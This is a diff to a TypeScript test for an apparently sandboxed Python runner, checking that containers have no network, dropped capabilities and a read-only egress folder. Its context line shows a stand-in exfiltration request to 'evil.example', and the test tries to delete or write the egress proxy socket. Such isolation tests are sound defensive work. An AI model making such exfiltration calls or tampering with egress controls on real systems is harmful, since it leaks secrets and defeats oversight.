@@ -70,19 +70,23 @@ requests.get('http://evil.example/secret')`;
   });
 
   it('is closed like every other, but for one folder that it cannot change (S-31)', async () => {
-    const running = world.look<unknown>(`
+    let begun: () => void;
+    const started = new Promise<void>((resolve) => (begun = resolve));
+    const running = world.look<unknown>(
+      `
 places = [lambda: os.unlink('/run/egress/proxy.sock'), lambda: open('/run/egress/x', 'w'), lambda: os.listdir('/run/egress')]
-time.sleep(1.5)
-tell([errno_of(it) for it in places])`);
-    await until(() => world.gates.length === 1, 20_000);
-    const [inspected] = world.containers
-      .map((name) => (JSON.parse(docker('inspect', name)) as [Inspected])[0])
-      .filter(({ Mounts }) => Mounts.some(({ Type }) => Type === 'bind'));
+time.sleep(3)
+tell([errno_of(it) for it in places])`,
+      { onStarted: () => begun() },
+    );
+    await started;
+    const [name = ''] = world.networked;
+    const [inspected] = JSON.parse(docker('inspect', name)) as [Inspected];
     const changes = await running;
 
     expect(changes).toEqual(['EROFS', 'EROFS', 'EACCES']);
-    expect(inspected!.HostConfig).toMatchObject({ NetworkMode: 'none', CapDrop: ['ALL'] });
-    const mounts = inspected!.Mounts.filter(({ Type }) => Type !== 'tmpfs');
+    expect(inspected.HostConfig).toMatchObject({ NetworkMode: 'none', CapDrop: ['ALL'] });
+    const mounts = inspected.Mounts.filter(({ Type }) => Type !== 'tmpfs');
     expect(mounts).toMatchObject([{ Type: 'bind', Destination: '/run/egress', RW: false }]);
     await until(() => world.gates.length === 0, 5_000);
   });
